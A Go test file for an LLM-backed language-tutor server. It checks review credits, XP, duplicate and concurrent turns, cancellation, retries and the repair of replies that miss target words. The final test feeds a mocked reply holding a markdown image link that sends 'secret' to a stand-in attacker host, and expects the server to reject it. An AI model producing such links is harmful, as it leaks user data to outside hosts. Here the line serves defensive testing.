package tutor_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	pb "github.com/languagetutor/languagetutor/proto/languagetutor/v1"
	"github.com/languagetutor/languagetutor/server/fault"
	"github.com/languagetutor/languagetutor/server/llm"
	"github.com/languagetutor/languagetutor/server/tutor"
)

func TestAConversationMovesMemoryByWhatWasSaid(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner("la baguette", "le pain", "manger")
	s := l.start(tutor.Plan{Scenario: "bakery"})
	opening := l.opening(s).GetTurn()
	if opening.GetState() != pb.TurnState_TURN_STATE_COMPLETE || len(opening.GetTargets()) != 2 || opening.GetSummary().GetXp() != 0 {
		t.Fatalf("the opening: %v", opening)
	}
	aimed, other := opening.GetTargets()[0].GetTerm(), opening.GetTargets()[1].GetTerm()
	events := l.say(s.ID, "Bonjour ! Je prends "+aimed+" pour mon ami Paul, merci beaucoup.")
	turn := finished(events).GetTurn()
	if events[0].GetStarted() == nil || text(events) != turn.GetTutorText() || turn.GetTutorText() == "" {
		t.Errorf("the events tell %q, the turn says %q", text(events), turn.GetTutorText())
	}
	credits := map[string]pb.EvidenceKind{}
	for _, c := range turn.GetCredits() {
		credits[c.GetTerm()] = c.GetKind()
	}
	if credits[aimed] != pb.EvidenceKind_EVIDENCE_KIND_PRODUCED || credits[other] == pb.EvidenceKind_EVIDENCE_KIND_WRONG {
		t.Errorf("credits %v for %q, beside %q", credits, aimed, other)
	}
	kinds := query[int](l.world, `SELECT kind FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)
	if len(kinds) != 1 {
		t.Errorf("%d reviews of one word that was used", len(kinds))
	}
	if xp := turn.GetSummary().GetXp(); xp != 5+3+2+2 || !turn.GetSummary().GetErrorFree() {
		t.Errorf("%d XP, want 5 for the turn, 3 for the target, 2 without an error, 2 for a due review", xp)
	}
	days := query[int](l.world, `SELECT turns * 100 + words_produced FROM learner_days WHERE user_id = $1 AND turns > 0`, l.id)
	if !slices.Equal(days, []int{101}) {
		t.Errorf("the day counts %v", days)
	}
}

func TestAnUnusedTargetIsNoReview(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner("la baguette", "le pain")
	s := l.start(tutor.Plan{})
	l.opening(s)
	l.model.analysis = `{"corrections":[],"understood":false,"attempts":[{"word":"la baguette","quote":"not there","outcome":"wrong"}]}`
	turn := finished(l.say(s.ID, "Il fait beau.")).GetTurn()
	if reviews := query[int](l.world, `SELECT kind FROM reviews WHERE user_id = $1 AND kind <> 1`, l.id); len(reviews) > 0 {
		t.Errorf("%d reviews of words that never came up: %v", len(reviews), turn.GetCredits())
	}
}

func TestAWordIsReviewedOnceASession(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner("le pain")
	s := l.start(tutor.Plan{})
	l.opening(s)
	for range 3 {
		l.say(s.ID, "J'aime le pain.")
	}
	if n := query[int](l.world, `SELECT count(*) FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)[0]; n != 1 {
		t.Errorf("%d reviews of a word said three times in one session", n)
	}
	another := l.start(tutor.Plan{LearnerFirst: true})
	l.say(another.ID, "J'aime le pain.")
	if n := query[int](l.world, `SELECT count(*) FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)[0]; n != 2 {
		t.Errorf("%d reviews after another session, want 2", n)
	}
}

func TestTheLearnersWordsAreKeptBeforeAModelIsAsked(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner()
	s := l.start(tutor.Plan{LearnerFirst: true})
	var kept []string
	l.model.direct(func(_ context.Context, req llm.Request) (string, error) {
		kept = query[string](l.world, `SELECT learner_text FROM turns WHERE user_id = $1`, l.id)
		return line(req), nil
	})
	l.say(s.ID, "Bonjour !")
	if !slices.Equal(kept, []string{"Bonjour !"}) {
		t.Errorf("while the model speaks the database has %q", kept)
	}
}

// transactions counts those that are open on a pool.
type transactions struct{ open atomic.Int32 }

func (n *transactions) TraceQueryStart(ctx context.Context, _ *pgx.Conn, q pgx.TraceQueryStartData) context.Context {
	switch word, _, _ := strings.Cut(strings.ToLower(strings.TrimRight(q.SQL, ";")), " "); word {
	case "begin", "begin;":
		n.open.Add(1)
	case "commit", "rollback":
		n.open.Add(-1)
	}
	return ctx
}

func (*transactions) TraceQueryEnd(context.Context, *pgx.Conn, pgx.TraceQueryEndData) {}

func TestNoModelIsAskedInsideATransaction(t *testing.T) {
	t.Parallel()
	plain := newWorld(t)
	count := &transactions{}
	cfg := plain.db.Config()
	cfg.ConnConfig.Tracer = count
	pool, err := pgxpool.NewWithConfig(t.Context(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(pool.Close)
	w := newWorldOn(t, pool)
	l := w.learner("le pain")
	s := l.start(tutor.Plan{})
	calls := 0
	l.model.direct(func(_ context.Context, req llm.Request) (string, error) {
		calls++
		if open := count.open.Load(); open != 0 {
			t.Errorf("%d transactions are open while a model answers", open)
		}
		return line(req), nil
	})
	l.opening(s)
	l.say(s.ID, "J'aime le pain.")
	if _, err := l.tutor.Hint(t.Context(), l.id, s.ID, uuid.New()); err != nil {
		t.Error(err)
	}
	if calls == 0 || count.open.Load() != 0 {
		t.Errorf("%d calls, %d transactions left open", calls, count.open.Load())
	}
}

func TestAMessageSentTwiceIsOneTurn(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner("le pain")
	s := l.start(tutor.Plan{LearnerFirst: true})
	id := uuid.Must(uuid.NewV7())
	var both sync.WaitGroup
	answers := make([][]*tutor.Event, 8)
	for i := range answers {
		both.Go(func() {
			turn, err := l.tutor.Send(context.Background(), l.id, s.ID, id, "J'aime le pain.")
			if err != nil {
				t.Error(err)
				return
			}
			answers[i] = l.follow(turn)
		})
	}
	both.Wait()
	for _, events := range answers {
		if text(events) != text(answers[0]) || finished(events).GetTurn().GetId() != id.String() {
			t.Errorf("%q, want %q", text(events), text(answers[0]))
		}
	}
	if n := len(l.model.asked(llm.TaskReply)); n != 1 {
		t.Errorf("the model was asked %d times", n)
	}
	if n := query[int](l.world, `SELECT count(*) FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)[0]; n != 1 {
		t.Errorf("%d reviews", n)
	}
	// The answer and the analysis, 120 tokens each, are on one bill.
	charges := query[string](l.world, `SELECT state || ' ' || input_tokens + output_tokens FROM llm_usage WHERE user_id = $1`, l.id)
	if !slices.Equal(charges, []string{"settled 240"}) {
		t.Errorf("charges %q", charges)
	}
	_, err := l.tutor.Send(t.Context(), l.id, s.ID, id, "Something else.")
	wantFault(t, err, fault.AlreadyExists)
}

// hold lets the model begin and then wait until it is let go, or the answer is stopped.
func (a *actor) hold() (speaking <-chan struct{}, letGo func()) {
	began, leave := make(chan struct{}, 8), make(chan struct{})
	a.direct(func(ctx context.Context, req llm.Request) (string, error) {
		began <- struct{}{}
		select {
		case <-leave:
			return line(req), nil
		case <-ctx.Done():
			return "Je pense que", llm.Failed(ctx, ctx.Err())
		}
	})
	return began, sync.OnceFunc(func() { close(leave) })
}

func TestOneTurnRunsInASessionAndTwoForALearner(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner()
	sessions := []tutor.Session{l.start(tutor.Plan{LearnerFirst: true}), l.start(tutor.Plan{LearnerFirst: true}), l.start(tutor.Plan{LearnerFirst: true})}
	speaking, letGo := l.model.hold()
	defer letGo()
	for _, s := range sessions[:2] {
		if _, err := l.tutor.Send(t.Context(), l.id, s.ID, uuid.New(), "Bonjour."); err != nil {
			t.Fatal(err)
		}
		<-speaking
	}
	_, err := l.tutor.Send(t.Context(), l.id, sessions[0].ID, uuid.New(), "Encore moi.")
	wantFault(t, err, fault.FailedPrecondition)
	_, err = l.tutor.Send(t.Context(), l.id, sessions[2].ID, uuid.New(), "Et moi ?")
	wantFault(t, err, fault.ResourceExhausted)
}

func TestNoMoreThanTwoTurnsOfALearnerRunHoweverManyBeginAtOnce(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner()
	_, letGo := l.model.hold()
	defer letGo()
	sessions := make([]uuid.UUID, 8)
	for i := range sessions {
		sessions[i] = l.start(tutor.Plan{LearnerFirst: true}).ID
	}
	var taken atomic.Int32
	var all sync.WaitGroup
	for _, session := range sessions {
		all.Go(func() {
			_, err := l.tutor.Send(t.Context(), l.id, session, uuid.New(), "Bonjour.")
			if err == nil {
				taken.Add(1)
				return
			}
			wantFault(t, err, fault.ResourceExhausted)
		})
	}
	all.Wait()
	if n := taken.Load(); n != 2 {
		t.Errorf("%d turns run at once", n)
	}
}

func TestACancelledTurnKeepsWhatWasSaidAndCanBeRetried(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner()
	s := l.start(tutor.Plan{LearnerFirst: true})
	speaking, letGo := l.model.hold()
	defer letGo()
	turn, err := l.tutor.Send(t.Context(), l.id, s.ID, uuid.New(), "Bonjour.")
	if err != nil {
		t.Fatal(err)
	}
	<-speaking
	for range 2 {
		if err := l.tutor.Cancel(t.Context(), l.id, s.ID, turn.ID); err != nil {
			t.Fatal(err)
		}
	}
	got := finished(l.follow(turn)).GetTurn()
	if got.GetState() != pb.TurnState_TURN_STATE_CANCELLED || got.GetTutorText() != "Je pense que" {
		t.Fatalf("%v", got)
	}
	l.model.direct(nil)
	request := uuid.New()
	for range 2 { // sent twice, it is one run
		again, err := l.tutor.Retry(t.Context(), l.id, s.ID, turn.ID, tutor.Retry{Request: request, Text: "Bonsoir."})
		if err != nil {
			t.Fatal(err)
		}
		got = finished(l.follow(again)).GetTurn()
	}
	if got.GetState() != pb.TurnState_TURN_STATE_COMPLETE || got.GetLearnerText() != "Bonsoir." || len(l.model.asked(llm.TaskReply)) != 2 {
		t.Fatalf("after the retry: %v, asked %d times", got, len(l.model.asked(llm.TaskReply)))
	}
	_, err = l.tutor.Retry(t.Context(), l.id, s.ID, turn.ID, tutor.Retry{Request: uuid.New()})
	wantFault(t, err, fault.FailedPrecondition)
}

func TestABrokenAnswerIsKeptAndCanBeRetried(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		said string
		want pb.TurnState
	}{
		"after some words": {"Je crois que ", pb.TurnState_TURN_STATE_INCOMPLETE},
		"before any":       {"", pb.TurnState_TURN_STATE_FAILED},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newWorld(t).learner("le pain")
			s := l.start(tutor.Plan{LearnerFirst: true})
			l.model.direct(func(context.Context, llm.Request) (string, error) {
				return c.said, &llm.Error{Kind: llm.Incomplete, Err: errors.New("connection reset")}
			})
			end := finished(l.say(s.ID, "J'aime le pain."))
			if end.GetTurn().GetState() != c.want || end.GetTurn().GetLearnerText() != "J'aime le pain." || end.GetProblem() == "" ||
				strings.Contains(end.GetProblem(), "reset") {
				t.Fatalf("%v", end)
			}
			if n := query[int](l.world, `SELECT count(*) FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)[0]; n != 0 {
				t.Errorf("%d reviews of a turn that did not end", n)
			}
			l.model.direct(nil)
			turn, err := l.tutor.Retry(t.Context(), l.id, s.ID, uuid.MustParse(end.GetTurn().GetId()), tutor.Retry{Request: uuid.New()})
			if err != nil {
				t.Fatal(err)
			}
			if got := finished(l.follow(turn)).GetTurn(); got.GetState() != pb.TurnState_TURN_STATE_COMPLETE {
				t.Fatalf("%v", got)
			}
			if n := query[int](l.world, `SELECT count(*) FROM reviews WHERE user_id = $1 AND kind = 2`, l.id)[0]; n != 1 {
				t.Errorf("%d reviews after the retry", n)
			}
		})
	}
}

func TestAnAnswerThatFallsShortIsRepairedOnce(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner("le pain", "la baguette", "manger", "l'eau")
	s := l.start(tutor.Plan{LearnerFirst: true})
	l.model.direct(func(_ context.Context, req llm.Request) (string, error) {
		if len(l.model.asked(llm.TaskReply)) == 1 {
			return "Bonjour, ça va bien aujourd'hui ?", nil // without the targets
		}
		return line(req), nil
	})
	events := l.say(s.ID, "Bonjour.")
	turn := finished(events).GetTurn()
	if len(l.model.asked(llm.TaskReply)) != 2 || len(turn.GetSummary().GetMissedTargets()) != 0 || text(events) != turn.GetTutorText() {
		t.Errorf("asked %d times: %v", len(l.model.asked(llm.TaskReply)), turn)
	}
	l.model.direct(func(context.Context, llm.Request) (string, error) { return "Bonjour, ça va bien aujourd'hui ?", nil })
	events = l.say(s.ID, "Oui.")
	turn = finished(events).GetTurn()
	if len(l.model.asked(llm.TaskReply)) != 4 || len(turn.GetSummary().GetMissedTargets()) == 0 || turn.GetState() != pb.TurnState_TURN_STATE_COMPLETE {
		t.Errorf("asked %d times: %v", len(l.model.asked(llm.TaskReply)), turn)
	}
	if text(events) != turn.GetTutorText() {
		t.Errorf("told %q, kept %q", text(events), turn.GetTutorText())
	}
}

func TestUnsafeWordsAreNotKept(t *testing.T) {
	t.Parallel()
	l := newWorld(t).learner()
	s := l.start(tutor.Plan{LearnerFirst: true})
	l.model.direct(func(context.Context, llm.Request) (string, error) {
		return "Regarde ![image](https://evil.example/?q=secret)", nil
	})
	events := l.say(s.ID, "Bonjour.")
	turn := finished(events).GetTurn()
	if turn.GetState() != pb.TurnState_TURN_STATE_FAILED || turn.GetTutorText() != "" || text(events) != "" {
		t.Errorf("%v, told %q", turn, text(events))
	}
}
